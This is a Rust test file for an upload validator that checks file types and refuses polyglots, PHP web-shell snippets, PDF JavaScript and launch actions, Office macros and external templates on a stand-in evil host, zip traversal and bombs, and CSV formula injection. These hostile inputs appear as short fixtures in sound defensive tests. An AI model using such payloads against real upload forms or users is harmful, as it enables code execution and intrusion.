//! Files by their content (contract.md § 13): what is right passes, and every polyglot that is known is refused.
#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]

use portcullis_contract::body::MediaType;
use portcullis_contract::upload::{
    Accepted, Content, Declared, FileType, Rejected, UploadRules, Why, clean, inspect,
};
use portcullis_testkit::files::{self, Entry};

fn judge(rules: &UploadRules, bytes: &[u8], media: &str, name: &str) -> Result<Accepted, Rejected> {
    let media = MediaType::parse(media).unwrap();
    let file_name = Some(name).filter(|name| !name.is_empty());
    inspect(rules, &bytes.to_vec(), Declared { media: Some(&media), file_name })
}

fn all() -> UploadRules {
    UploadRules {
        entries: vec![FileType::Png, FileType::Txt],
        ..UploadRules::new(FileType::ALL.to_vec(), 200 << 20)
    }
}

/// Judged as a type, by its own media type and extension.
fn as_type(kind: FileType, bytes: &[u8]) -> Result<(), &'static str> {
    judge(&all(), bytes, kind.media(), &format!("a.{}", kind.extension())).map(drop).map_err(|r| r.reason)
}

fn webp() -> Vec<u8> {
    files::riff(b"WEBP", &[(b"VP8L", &[0x2f, 0, 0, 0, 0, 1])])
}

fn bmp() -> Vec<u8> {
    let mut out = b"BM".to_vec();
    out.extend_from_slice(&58_u32.to_le_bytes());
    out.extend_from_slice(&[0; 4]);
    for number in [54_u32, 40, 1, 1, 1 | 24 << 16, 0, 4, 0, 0, 0, 0] {
        out.extend_from_slice(&number.to_le_bytes());
    }
    out.extend_from_slice(&[1, 2, 3, 0]);
    out
}

fn tiff(next: u32) -> Vec<u8> {
    let mut out = b"II*\0\x08\0\0\0\x04\0".to_vec();
    for (tag, value) in [(256_u16, 1_u32), (257, 1), (273, 62), (279, 1)] {
        out.extend_from_slice(&tag.to_le_bytes());
        out.extend_from_slice(&[4, 0, 1, 0, 0, 0]);
        out.extend_from_slice(&value.to_le_bytes());
    }
    out.extend_from_slice(&next.to_le_bytes());
    out.push(7);
    out
}

fn mp3() -> Vec<u8> {
    // 128 kbit/s at 44.1 kHz: 417 bytes a frame.
    let mut frame = vec![0; 417];
    frame[..4].copy_from_slice(&[0xff, 0xfb, 0x90, 0]);
    frame.repeat(3)
}

fn wav() -> Vec<u8> {
    files::riff(
        b"WAVE",
        &[(b"fmt ", &[1, 0, 1, 0, 0x44, 0xac, 0, 0, 0x88, 0x58, 1, 0, 2, 0, 16, 0]), (b"data", &[0; 64])],
    )
}

fn mp4() -> Vec<u8> {
    let part =
        |kind: &[u8; 4], data: &[u8]| [&(8 + data.len() as u32).to_be_bytes()[..], kind, data].concat();
    [part(b"ftyp", b"isom\0\0\0\0isom"), part(b"moov", &part(b"mvhd", &[0; 20])), part(b"mdat", &[7; 30])]
        .concat()
}

fn webm() -> Vec<u8> {
    let head = b"\x1a\x45\xdf\xa3\x87\x42\x82\x84webm".to_vec();
    let inside = [b"\x16\x54\xae\x6b\x82\x01\x02".as_slice(), b"\x1f\x43\xb6\x75\x84\xe7\x82\0\0"].concat();
    [head, b"\x18\x53\x80\x67".to_vec(), vec![0x80 | inside.len() as u8], inside].concat()
}

fn odt() -> Vec<u8> {
    files::zip(&[Entry::new("mimetype", FileType::Odt.media()).stored(), Entry::new("content.xml", "<x/>")])
}

const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";

fn samples() -> Vec<(FileType, Vec<u8>)> {
    vec![
        (FileType::Png, files::png(&[(b"tEXt", b"Comment\0fine")])),
        (FileType::Jpeg, files::jpeg(2, 2, b"fine")),
        (FileType::Gif, files::gif(2, b"fine")),
        (FileType::Webp, webp()),
        (FileType::Bmp, bmp()),
        (FileType::Tiff, tiff(0)),
        (FileType::Pdf, files::pdf("<< /Type /Catalog >>")),
        (FileType::Zip, files::zip(&[Entry::new("a/b.txt", "text"), Entry::new("c.png", files::png(&[]))])),
        (FileType::Docx, files::office(DOCX, &[])),
        (FileType::Xlsx, files::office(XLSX, &[])),
        (FileType::Odt, odt()),
        (FileType::Mp3, mp3()),
        (FileType::Wav, wav()),
        (FileType::Mp4, mp4()),
        (FileType::Webm, webm()),
        (FileType::Txt, "naïve text\n".into()),
        (FileType::Csv, "a,b\n\"x, y\",-5\n".into()),
        (FileType::Json, br#"{"a": [1, 2]}"#.to_vec()),
    ]
}

#[test]
fn what_is_right_passes_and_only_as_what_it_is() {
    let other = |kind: FileType| FileType::ALL.iter().copied().filter(move |other| *other != kind);
    for (kind, bytes) in samples() {
        assert_eq!(as_type(kind, &bytes), Ok(()), "{kind:?}");
        let octets = judge(
            &all(),
            &bytes,
            "application/octet-stream",
            &format!("A.{}", kind.extension().to_uppercase()),
        );
        let accepted = octets.unwrap_or_else(|r| panic!("{kind:?}: {}", r.reason));
        assert_eq!((&*accepted.media, &*accepted.extension), (kind.media(), kind.extension()));
        for other in other(kind) {
            if !(kind.is_text() && other.is_text()) {
                assert!(as_type(other, &bytes).is_err(), "{kind:?} as {other:?}");
            }
            // The declared type, the name and the content: each disagrees with the other two.
            if other.extension() != kind.extension() {
                let wrong_name = judge(&all(), &bytes, kind.media(), &format!("a.{}", other.extension()));
                assert!(wrong_name.is_err(), "{kind:?} named {other:?}");
                let wrong_type = judge(&all(), &bytes, other.media(), &format!("a.{}", kind.extension()));
                assert!(wrong_type.is_err(), "{kind:?} declared {other:?}");
            }
        }
        let closed = UploadRules { types: other(kind).collect(), ..all() };
        let refused = judge(&closed, &bytes, kind.media(), &format!("a.{}", kind.extension()));
        assert_eq!(refused.unwrap_err().reason, "type-not-allowed", "{kind:?}");
    }
}

#[test]
fn nothing_is_missing_and_nothing_follows() {
    for (kind, bytes) in samples() {
        if kind.is_text() {
            continue;
        }
        for cut in 1..bytes.len() {
            // Some formats can end after any frame or chunk.
            let mp3_frame = kind == FileType::Mp3 && cut % 417 == 0 && cut > 417;
            let after_moov = kind == FileType::Mp4 && cut == 20 + 36;
            let pdf_line = kind == FileType::Pdf && cut + 1 == bytes.len();
            if !(mp3_frame || after_moov || pdf_line) {
                assert!(as_type(kind, &bytes[..cut]).is_err(), "{kind:?} cut at {cut}");
            }
        }
        for tail in
            [files::zip(&[Entry::new("x.php", "<?php")]), b"<?php system($_GET[0]);".to_vec(), vec![0; 100]]
        {
            assert!(as_type(kind, &[bytes.clone(), tail].concat()).is_err(), "{kind:?} with a tail");
        }
        assert!(as_type(kind, &[b"\n".to_vec(), bytes.clone()].concat()).is_err(), "{kind:?} behind a line");
    }
    let mut endless = mp4();
    let last = endless.len() - 38;
    endless[last..last + 4].fill(0);
    assert_eq!(
        as_type(FileType::Mp4, &endless),
        Err("media-structure"),
        "a box without an end swallows what follows"
    );
    for tolerant in [files::jpeg(1, 1, b""), files::pdf("<<>>"), tiff(0)] {
        let kind = [FileType::Jpeg, FileType::Pdf, FileType::Tiff].into_iter();
        let padded = [tolerant.clone(), b"\r\n \0".to_vec()].concat();
        assert!(kind.clone().any(|kind| as_type(kind, &padded).is_ok()));
        let long = [tolerant, vec![b' '; 65]].concat();
        assert!(kind.clone().all(|kind| as_type(kind, &long).is_err()));
    }
}

#[test]
fn polyglots_are_refused() {
    let script = b"<?PHP system($_GET[0]); ?>";
    let cases: Vec<(FileType, Vec<u8>, &str)> = vec![
        (FileType::Png, b"<?php phpinfo();".to_vec(), "markup"),
        (FileType::Png, b"  \n<svg onload=alert(1)>".to_vec(), "markup"),
        (FileType::Png, b"\xef\xbb\xbf<!DOCTYPE html>".to_vec(), "markup"),
        (FileType::Gif, b"GIF89a<?php system($_GET[0]); ?>".to_vec(), ""),
        (FileType::Gif, files::gif(1, script), "script-in-metadata"),
        (FileType::Gif, files::gif(1, &[vec![b'x'; 253], script.to_vec()].concat()), "script-in-metadata"),
        (FileType::Gif, files::gif(1_001, b""), "too-many-frames"),
        (FileType::Png, files::png(&[(b"tEXt", script)]), "script-in-metadata"),
        (FileType::Png, files::png(&[(b"eXIf", b"..<ScRiPt>")]), "script-in-metadata"),
        (FileType::Png, files::png(&[(b"PLTE", b"<?php echo 1;?>")]), "script-in-metadata"),
        (
            FileType::Png,
            files::png(&[(b"tEXt", &[vec![b'x'; 65_534], b"<svg".to_vec()].concat())]),
            "script-in-metadata",
        ),
        (
            FileType::Png,
            [files::png(&[]), files::zip(&[Entry::new("a", "b")])].concat(),
            "data-after-structure",
        ),
        (FileType::Png, files::png_sized(10_000, 5_001, &[]), "too-many-pixels"),
        (FileType::Png, files::png_sized(u32::MAX, u32::MAX, &[]), "too-many-pixels"),
        (FileType::Png, files::png_sized(0, 5, &[]), "image-structure"),
        (FileType::Jpeg, files::jpeg(9_000, 9_000, b""), "too-many-pixels"),
        (FileType::Jpeg, files::jpeg(1, 1, script), "script-in-metadata"),
        (FileType::Jpeg, files::jpeg(1, 1, b"__HALT_COMPILER(); ?>"), "phar"),
        (
            FileType::Webp,
            files::riff(b"WEBP", &[(b"EXIF", b"x"), (b"VP8L", &[0x2f, 0, 0, 0, 0])]),
            "image-structure",
        ),
        (
            FileType::Webp,
            files::riff(b"WEBP", &[(b"VP8L", &[0x2f, 0, 0, 0, 0]), (b"XMP ", b"<svg>")]),
            "script-in-metadata",
        ),
        (FileType::Tiff, tiff(8), "image-structure"),
        (FileType::Txt, b"\x7fELF\x02".to_vec(), "program-elf"),
        (FileType::Txt, b"MZ\x90\0\x03".to_vec(), "program-pe"),
        (FileType::Txt, b"#!/bin/sh\n".to_vec(), "script"),
        (FileType::Txt, b"\xca\xfe\xba\xbe\0\0".to_vec(), "program-java-or-mach-o"),
        (FileType::Txt, b"CWS\x09\x10\x20\0\0".to_vec(), "flash"),
        (FileType::Txt, b"L\0\0\0\x01\x14\x02\0".to_vec(), "shortcut"),
        (FileType::Txt, b"\xff\xfe<\0s\0v\0g\0".to_vec(), "text-not-utf-8"),
        (FileType::Txt, b"caf\xe9".to_vec(), "text-not-utf-8"),
        (FileType::Txt, b"a\0b".to_vec(), "text-characters"),
        (FileType::Txt, b"".to_vec(), "file-empty"),
        (FileType::Json, br#"{"a":1,"a":2}"#.to_vec(), "file-not-json"),
    ];
    for (kind, bytes, reason) in cases {
        let refused = as_type(kind, &bytes).unwrap_err();
        assert!(reason.is_empty() || refused == reason, "{kind:?} {reason}: {refused}");
    }
    // Texts that only begin like programs are texts.
    for text in [
        "MZ is the region of Mainz, and the number plates of its cars say so; it is no program at all.",
        "BM 12345678 is a plate",
        "CWS: cold water supply",
    ] {
        assert_eq!(as_type(FileType::Txt, text.as_bytes()), Ok(()), "{text}");
    }
    for name in [".htaccess", "web.config", "a/.HTACCESS", ".user.ini"] {
        let refused = judge(&all(), b"text", "text/plain", name).unwrap_err();
        assert_eq!(refused.reason, "server-configuration", "{name}");
    }
}

#[test]
fn documents_that_act_are_refused() {
    let object_stream = |dictionary: &str, hidden: &[u8]| {
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        std::io::Write::write_all(&mut encoder, hidden).unwrap();
        let packed = encoder.finish().unwrap();
        let mut out = format!("%PDF-1.7\n5 0 obj\n<< {dictionary} /Length {} >>\nstream\r\n", packed.len())
            .into_bytes();
        out.extend_from_slice(&packed);
        out.extend_from_slice(b"\nendstream\nendobj\n%%EOF");
        out
    };
    let script = b"<< /S /JavaScript /JS (app.alert(1)) >>";
    for (bytes, reason) in [
        (files::pdf("<< /S /JavaScript /JS (app.alert(1)) >>"), "pdf-javascript"),
        (files::pdf("<< /S /J#61va#53cript >>"), "pdf-javascript"),
        (files::pdf("<</S/Launch/F(cmd.exe)>>"), "pdf-launch"),
        (files::pdf("<< /Type /EmbeddedFile >>"), "pdf-embedded-file"),
        (
            object_stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", script),
            "pdf-javascript-in-stream",
        ),
        (object_stream("/N 1 /First 4 /Filter /Fl", script), "pdf-javascript-in-stream"),
        (
            object_stream("/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", script),
            "pdf-object-stream",
        ),
        (
            object_stream("/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>", script),
            "pdf-object-stream",
        ),
        (b"%PDF-1.4\nno end".to_vec(), "pdf-end"),
    ] {
        let refused = as_type(FileType::Pdf, &bytes).unwrap_err();
        assert!(refused == reason || reason.ends_with("-in-stream"), "{reason}: {refused}");
    }
    let harmless =
        object_stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", b"1 0 << /Type /Page >>");
    assert_eq!(as_type(FileType::Pdf, &harmless), Ok(()));
    assert_eq!(
        as_type(FileType::Pdf, &files::pdf("<< /Title (JavaScript for beginners) /JavaScripts 1 >>")),
        Ok(())
    );
    let loosened = UploadRules { active_pdf: true, ..all() };
    assert!(judge(&loosened, &files::pdf("<< /S /JavaScript >>"), "application/pdf", "a.pdf").is_ok());

    let relation = |kind: &str, mode: &str| {
        format!(
            "<Relationships><Relationship Id=\"1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"https://evil.example/a.dotm\" {mode}/></Relationships>"
        )
    };
    let rels = "word/_rels/settings.xml.rels";
    for (parts, reason) in [
        (vec![("word/vbaProject.bin", "x".to_owned())], "document-macros"),
        (vec![("word/activeX/activeX1.xml", "x".to_owned())], "document-macros"),
        (vec![(rels, relation("attachedTemplate", "TargetMode=\"External\""))], "document-external"),
        (vec![(rels, relation("attachedTemplate", "TargetMode = '&#69;xternal'"))], "document-external"),
        (vec![(rels, relation("attachedTemplate", ""))], "document-external"),
        (vec![(rels, relation("oleObject", "TargetMode=\"External\""))], "document-external"),
        (vec![(rels, "<!DOCTYPE x [<!ENTITY a 'External'>]><x/>".to_owned())], "document-xml"),
        (vec![("word/embeddings/a.bin", "\u{50}K\u{3}\u{4}".to_owned())], "archive-in-archive"),
    ] {
        let parts: Vec<(&str, &str)> = parts.iter().map(|(name, text)| (*name, text.as_str())).collect();
        assert_eq!(as_type(FileType::Docx, &files::office(DOCX, &parts)), Err(reason), "{parts:?}");
    }
    assert_eq!(
        as_type(
            FileType::Docx,
            &files::office(DOCX, &[(rels, &relation("hyperlink", "TargetMode=\"External\""))])
        ),
        Ok(())
    );
    let macros = files::office("application/vnd.ms-word.document.macroEnabled.main+xml", &[]);
    assert_eq!(as_type(FileType::Docx, &macros), Err("document-macros"));
    let basic = files::zip(&[
        Entry::new("mimetype", FileType::Odt.media()).stored(),
        Entry::new("Basic/Standard/a.xml", "x"),
    ]);
    assert_eq!(as_type(FileType::Odt, &basic), Err("document-macros"));
}

#[test]
fn archives_are_what_both_of_their_directories_say() {
    let text = |name: &str| Entry::new(name, "text");
    let with = |change: &dyn Fn(&mut Entry)| {
        let mut entry = text("a.txt");
        change(&mut entry);
        files::zip(&[entry, text("z.txt")])
    };
    let bomb = Entry::new("a.txt", vec![b' '; 10 << 20]);
    let cases: Vec<(Vec<u8>, &str)> = vec![
        (files::zip(&[text("../a.txt")]), "archive-name"),
        (files::zip(&[text("a/../../b.txt")]), "archive-name"),
        (files::zip(&[text("/etc/a.txt")]), "archive-name"),
        (files::zip(&[text("C:/a.txt")]), "archive-name"),
        (files::zip(&[text("a\\..\\b.txt")]), "archive-name"),
        (files::zip(&[text("a/./b.txt")]), "archive-name"),
        (files::zip(&[text("a//b.txt")]), "archive-name"),
        (files::zip(&[text("a\u{1}.txt")]), "archive-name"),
        (files::zip(&[text("a\u{202e}txt.exe")]), "archive-name"),
        (files::zip(&[text("con.txt")]), "archive-name"),
        (files::zip(&[text("A.txt"), text("a.TXT")]), "archive-name-twice"),
        (files::zip(&[text("é.txt"), text("e\u{301}.txt")]), "archive-name-twice"),
        (files::zip(&[text("a.txt"), text("a.txt/b.txt")]), "archive-name-twice"),
        (files::zip(&[text("x.php")]), "type-unknown"),
        (files::zip(&[text("a.php.txt")]), "extension-active"),
        (files::zip(&[text(".htaccess")]), "server-configuration"),
        (files::zip(&[text(".phar/stub.txt")]), "phar"),
        (files::zip(&[Entry::new("a.png", "<?php")]), "markup"),
        (files::zip(&[Entry::new("a.gif", files::gif(1, b""))]), "archive-entry-type"),
        (
            files::zip(&[Entry::new("a.png", [files::png(&[]), b"tail".to_vec()].concat())]),
            "data-after-structure",
        ),
        (files::zip(&[Entry::new("a.txt", files::zip(&[text("b.txt")]))]), "archive-in-archive"),
        (files::zip(&[]), ""),
        (with(&|e| e.attributes = 0o120_777 << 16), "archive-link-or-device"),
        (with(&|e| e.attributes = 0o020_666 << 16), "archive-link-or-device"),
        (with(&|e| e.flags |= 1), "archive-encrypted"),
        (with(&|e| e.central_name = b"b.txt".to_vec()), "archive-headers-disagree"),
        (with(&|e| e.local_size = Some(3)), "archive-headers-disagree"),
        (with(&|e| e.central_size = Some(3)), "archive-headers-disagree"),
        (with(&|e| e.extra = vec![1, 0, 0, 0]), "archive-extra-field"),
        (with(&|e| e.extra = vec![0x75, 0x70, 0, 0]), "archive-extra-field"),
        (with(&|e| e.extra = vec![9, 9, 200, 0]), ""),
        (
            with(&|e| e.packed = Some([files::deflate(b"text"), b"hidden".to_vec()].concat())),
            "archive-headers-disagree",
        ),
        (with(&|e| e.packed = Some(b"\xff\xff\xff".to_vec())), "deflate-broken"),
        (
            files::zip(
                &vec![bomb.clone(); 11]
                    .into_iter()
                    .enumerate()
                    .map(|(i, mut e)| {
                        e.name = format!("{i}.txt").into();
                        e.central_name = e.name.clone();
                        e
                    })
                    .collect::<Vec<_>>(),
            ),
            "archive-too-large",
        ),
        (files::zip(&[bomb]), "archive-ratio"),
        (files::zip(&(0..1_001).map(|i| text(&format!("{i}.txt"))).collect::<Vec<_>>()), "archive-entries"),
    ];
    for (index, (bytes, reason)) in cases.into_iter().enumerate() {
        let refused = as_type(FileType::Zip, &bytes).expect_err(&format!("{index}: {reason}"));
        assert!(reason.is_empty() || refused == reason, "{index} {reason}: {refused}");
    }
    for good in [
        with(&|e| e.streamed = true),
        with(&|e| e.deflate = false),
        with(&|e| e.extra = vec![0x55, 0x54, 1, 0, 0]),
        files::zip(&[
            Entry { attributes: 0o040_755 << 16, ..Entry::new("dir/", "").stored() },
            text("dir/a.txt"),
        ]),
    ] {
        assert_eq!(as_type(FileType::Zip, &good), Ok(()));
    }
    // Nothing names what an archive may hold.
    let closed = UploadRules { entries: Vec::new(), ..all() };
    let refused = judge(&closed, &files::zip(&[text("a.txt")]), "application/zip", "a.zip").unwrap_err();
    assert_eq!(refused.reason, "archives-not-allowed");
}

/// Every field of both headers lies in turn: what is still accepted is read as before.
#[test]
fn overlaps_gaps_and_lies_in_any_byte_of_a_header() {
    let made = files::zip_parts(&[Entry::new("a.txt", "text of a"), Entry::new("b.txt", "text of b")]);
    let bytes = &made.bytes;
    let patched = |at: usize, value: &[u8]| {
        let mut copy = bytes.clone();
        copy[at..at + value.len()].copy_from_slice(value);
        as_type(FileType::Zip, &copy)
    };
    // Both central headers point at one local header.
    assert!(patched(made.central[1] + 42, &0_u32.to_le_bytes()).is_err());
    // A comment, a second disk, one entry less.
    let end = bytes.len() - 22;
    assert_eq!(as_type(FileType::Zip, &[bytes.clone(), b"PK\x05\x06".to_vec()].concat()), Err("archive-end"));
    assert!(patched(end + 20, &[1, 0]).is_err());
    assert!(patched(end + 4, &[1, 0]).is_err());
    assert!(patched(end + 8, &[1, 0, 1, 0]).is_err());
    // Bytes between the entries, before them, and before the directory.
    for at in [0, made.local[1], made.directory] {
        let mut copy = bytes.clone();
        copy.splice(at..at, *b"hidden");
        assert!(as_type(FileType::Zip, &copy).is_err(), "{at}");
    }
    // Free to change are: the version needed to unpack and time and date of local headers (nobody takes them for more
    // than notes), and in central headers these, what made it, and attributes.
    let mut free = 0;
    for at in (0..bytes.len())
        .filter(|at| made.local.iter().any(|l| (*l..*l + 30).contains(at)) || *at >= made.directory)
    {
        for flip in [1_u8, 0x80, 0xff] {
            if patched(at, &[bytes[at] ^ flip]).is_ok() {
                let local = made.local.iter().find_map(|l| at.checked_sub(*l).filter(|o| *o < 30));
                let central = made
                    .central
                    .iter()
                    .rev()
                    .find_map(|c| at.checked_sub(*c))
                    .filter(|_| at >= made.directory);
                let harmless = match (local, central) {
                    (_, Some(offset)) => matches!(offset, 4..=7 | 12..=15 | 36..=41),
                    (Some(offset), None) => matches!(offset, 4..=5 | 10..=13),
                    _ => false,
                };
                assert!(harmless, "byte {at} ^ {flip:#x} (local {local:?}, central {central:?})");
                free += 1;
            }
        }
    }
    assert!(free > 0);
}

/// 16 KiB that become 512 MiB, and a small lie about how much they become.
#[test]
fn bombs_are_refused_by_their_headers_or_by_what_comes_out() {
    let mut entry = Entry::new("a.txt", vec![b' '; 16 << 20]);
    let packed = files::deflate(&entry.data);
    assert!(packed.len() < 17 << 10, "{}", packed.len());
    assert_eq!(as_type(FileType::Zip, &files::zip(&[entry.clone()])), Err("archive-ratio"));
    entry.packed = Some(packed);
    entry.data = vec![b' '; 60 << 10];
    // Both headers say 60 KiB, with the right checksum of as much.
    assert_eq!(as_type(FileType::Zip, &files::zip(&[entry])), Err("inflates-too-far"));
}

/// Formats that jump about are begun anew each time: the work is bounded for the whole archive.
#[test]
fn entries_are_judged_without_being_kept() {
    let big = [
        b"line of text with a number 12345\n".repeat(1 << 15),
        (0..200_000_u32)
            .flat_map(|i| (i.wrapping_mul(2_654_435_761) >> 7).to_string().into_bytes())
            .collect(),
    ]
    .concat();
    let archive = files::zip(&[Entry::new("a.txt", big)]);
    assert_eq!(as_type(FileType::Zip, &archive), Ok(()));
}

#[test]
fn tables_hold_no_formulas() {
    let csv = |text: &str| as_type(FileType::Csv, text.as_bytes());
    for text in [
        "=1+1",
        "a,=cmd|' /C calc'!A0",
        "a,\"=1\"",
        "a;@SUM(A1)",
        "a\n+cmd",
        "-cmd|' /C calc'!A0",
        "a,-1+cmd|'x'!A",
        "a, =1",
        "\"\t=1\"",
        "a,\"-x\"",
        "a,-",
        "\u{feff}=1",
        "a\r=1",
        "a\t=1",
        "a,+",
        "a,\"x\"y",
        "a|=1",
        "a,＝1",
        "a,\n-,b",
    ] {
        assert_eq!(csv(text), Err("csv-formula"), "{text:?}");
    }
    for text in [
        "a,b\n1,2",
        "-5,+49 (30) 123-45,-1.5e3,\"-7,5\"",
        "\"a,=b\",\"c\"\"=\"\"\"",
        "x=1,mail@example.org",
        "\u{feff}a,b",
        ",,\n,",
        "a,\"multi\n=line\"",
        "5\" pipe,1",
        "a,-5 €",
        "a, b",
    ] {
        assert_eq!(csv(text), Ok(()), "{text:?}");
    }
    let loosened = UploadRules { csv_formulas: true, ..all() };
    assert!(judge(&loosened, b"=1+1", "text/csv", "a.csv").is_ok());
}

#[test]
fn names_mean_one_thing_everywhere() {
    let png = |name: &str| clean(name, FileType::Png).map(String::from).map_err(|r| (r.why, r.reason));
    for (name, expected) in [
        ("photo.png", "photo.png"),
        ("Photo.PNG", "Photo.png"),
        ("../../etc/photo.png", "photo.png"),
        ("C:\\fakepath\\photo.png", "photo.png"),
        ("a.b.c.png", "a_b_c.png"),
        ("ein Bild (2).png", "ein_Bild__2_.png"),
        ("Z\u{65}\u{301}.png", "Z_.png"),
        ("Zé.png", "Z_.png"),
        ("..hidden.png", "hidden.png"),
        ("photo.png. .", "photo.png"),
        ("CON.png", "_CON.png"),
        ("lpt1.png", "_lpt1.png"),
        ("日本.png", "file.png"),
        ("a\"b<c>.png", "a_b_c_.png"),
    ] {
        assert_eq!(png(name).as_deref(), Ok(expected), "{name}");
    }
    assert_eq!(png(&format!("{}.png", "x".repeat(300))).unwrap().len(), 100);
    for name in [
        "a.php.png",
        "a.PhP5.png",
        "a.php;.png",
        "a.phtml .png",
        "x.asp.jpg.png",
        "a.php%00.png",
        "a.html.png",
    ] {
        assert_eq!(png(name), Err((Why::Type, "extension-active")), "{name}");
    }
    for (name, reason) in [
        ("photo", "extension-missing"),
        (".png", "extension-missing"),
        ("a.gif", "extension-disagrees"),
        ("a.png.php", "extension-disagrees"),
        ("a.png::$DATA", "extension-disagrees"),
        ("", "extension-missing"),
        ("a.png/", "extension-missing"),
    ] {
        assert_eq!(png(name), Err((Why::Type, reason)), "{name}");
    }
    for name in ["a\0.png", "a\n.png", "a\u{7f}.png", "gnp.\u{202e}exe.png", "a\u{200f}.png"] {
        assert_eq!(png(name), Err((Why::Malformed, "file-name-controls")), "{name:?}");
        let refused = judge(&all(), &files::png(&[]), "image/png", name).unwrap_err();
        assert_eq!(refused.why, Why::Malformed);
    }
    let kept = judge(&all(), &files::png(&[]), "image/png", "dir/my photo.png").unwrap();
    assert_eq!(kept.name.as_deref(), Some("my_photo.png"));
}

#[test]
fn sizes_and_silence() {
    let small = UploadRules { max_bytes: 10, ..all() };
    assert_eq!(judge(&small, &files::png(&[]), "image/png", "a.png").unwrap_err().reason, "file-too-large");
    let bare = |bytes: &[u8], name: Option<&str>| {
        inspect(&all(), &bytes.to_vec(), Declared { media: None, file_name: name })
    };
    assert!(bare(&files::png(&[]), None).is_ok(), "a base64 string says nothing of its type");
    assert_eq!(
        bare(&files::png(&[]), Some("a.png")).unwrap_err().reason,
        "type-disagrees",
        "a part without a type is text"
    );
    struct Broken;
    impl Content for Broken {
        fn len(&self) -> u64 {
            100
        }
        fn read_at(&self, _: u64, _: &mut [u8]) -> Option<usize> {
            None
        }
    }
    let refused = inspect(&all(), &Broken, Declared { media: None, file_name: None }).unwrap_err();
    assert_eq!(refused.why, Why::Unreadable);
}

#[expect(clippy::expect_used, reason = "shared with the fuzzer")]
mod laws {
    include!("../../../fuzz/laws/upload.rs");
}

/// Every sample, under the laws of the fuzzer; with `PORTCULLIS_SEEDS` they are written there to begin with.
#[test]
fn samples_keep_the_laws_of_the_fuzzer() {
    let folder = std::env::var_os("PORTCULLIS_SEEDS").map(std::path::PathBuf::from);
    let names = ["a.b.png", "../x.TXT", "CON.png"].map(|name| [b"\0", name.as_bytes()].concat());
    let files = samples().into_iter().map(|(_, bytes)| [&[63_u8], &bytes[..]].concat());
    for (index, input) in names.into_iter().chain(files).enumerate() {
        laws::file(&input);
        if let Some(folder) = &folder {
            std::fs::write(folder.join(format!("seed-{index:02}")), input).unwrap();
        }
    }
}
